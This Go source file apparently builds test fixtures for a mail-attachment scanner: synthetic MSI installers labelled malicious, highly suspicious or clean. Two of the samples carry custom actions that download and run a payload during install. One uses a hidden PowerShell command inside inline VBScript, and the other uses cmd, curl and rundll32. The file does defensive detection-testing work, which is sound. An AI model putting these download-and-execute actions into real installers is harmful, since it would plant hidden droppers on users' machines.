package corpus

import (
	"github.com/airlockmail/airlock/verdict"
)

// installerSamples are the installers and runtimes of issue 15, family 3:
// MSI custom actions, Java archives, compiled HTML help, Excel add-ins
// (XLL) and MSIX/App Installer packages, each risky one beside a clean
// look-alike of the same format.
func installerSamples() []Sample {
	var out []Sample
	out = append(out, msiSamples()...)
	return out
}

// Standard tables of a small package that installs one program.
func msiBase(extraProps ...string) []MSITable {
	props := append([]string{
		"ProductName", "Contoso Invoice Viewer",
		"ProductCode", "{6F1E3A2B-0C4D-4E5F-8A9B-1C2D3E4F5A6B}",
		"ProductVersion", "2.4.1",
		"Manufacturer", "Contoso Ltd",
		"ProductLanguage", "1033",
		"ARPHELPLINK", "https://www.example.org/support",
	}, extraProps...)
	return []MSITable{PropertyTable(props...)}
}

func msiSamples() []Sample {
	vbs := `Set sh = CreateObject("WScript.Shell")` + "\r\n" +
		`sh.Run "powershell -w hidden -nop -c iwr ` + payloadURL + ` -OutFile $env:TEMP\u.exe; start $env:TEMP\u.exe", 0, False`
	vbsMSI := MSI(append(msiBase(),
		CustomActionTable([]any{"CheckPrereqs", 38 + 0x400 + 0x800, nil, vbs, nil}),
		SequenceTable("InstallExecuteSequence", "CostInitialize", 800, "FileCost", 900, "CostFinalize", 1000, "InstallValidate", 1400, "InstallInitialize", 1500, "CheckPrereqs", 1600, "InstallFinalize", 6600),
	), nil)

	cmd := `cmd.exe /c curl -s -o %TEMP%\upd.dll ` + payloadURL + ` && rundll32 %TEMP%\upd.dll,DllRegisterServer`
	exeMSI := MSI(append(msiBase(),
		CustomActionTable(
			[]any{"SetInstallDir", 51, "ARPINSTALLLOCATION", "[INSTALLDIR]", nil},
			[]any{"UpdateComponents", 34 + 0x40, "SystemFolder", cmd, nil},
		),
		SequenceTable("InstallExecuteSequence", "CostInitialize", 800, "CostFinalize", 1000, "InstallInitialize", 1500, "UpdateComponents", 1550, "InstallFinalize", 6600),
	), nil)

	plainMSI := MSI(append(msiBase(),
		CustomActionTable(
			[]any{"SetInstallDir", 51, "ARPINSTALLLOCATION", "[INSTALLDIR]", nil},
			[]any{"RegisterViewer", 34 + 0x40, "INSTALLDIR", `"[INSTALLDIR]viewer.exe" /register /quiet`, nil},
			[]any{"LaunchReadme", 18 + 0x40, "readme.txt", "", nil},
		),
		SequenceTable("InstallExecuteSequence", "CostInitialize", 800, "CostFinalize", 1000, "InstallInitialize", 1500, "SetInstallDir", 1510, "RegisterViewer", 6500, "InstallFinalize", 6600),
	), nil)

	return []Sample{
		{Name: "installer-vbscript-action.msi", Want: verdict.Malicious, Why: "MSI with a deferred, SYSTEM inline VBScript custom action that downloads and runs", Data: vbsMSI},
		{Name: "installer-cmd-action.msi", Want: verdict.HighlySuspicious, Why: "MSI with a type 34 custom action: cmd /c curl a DLL, then rundll32 it", Data: exeMSI},
		{Name: "installer-plain.msi", Want: verdict.Clean, Why: "MSI whose custom actions set a property and run the program it installs", Data: plainMSI},
	}
}
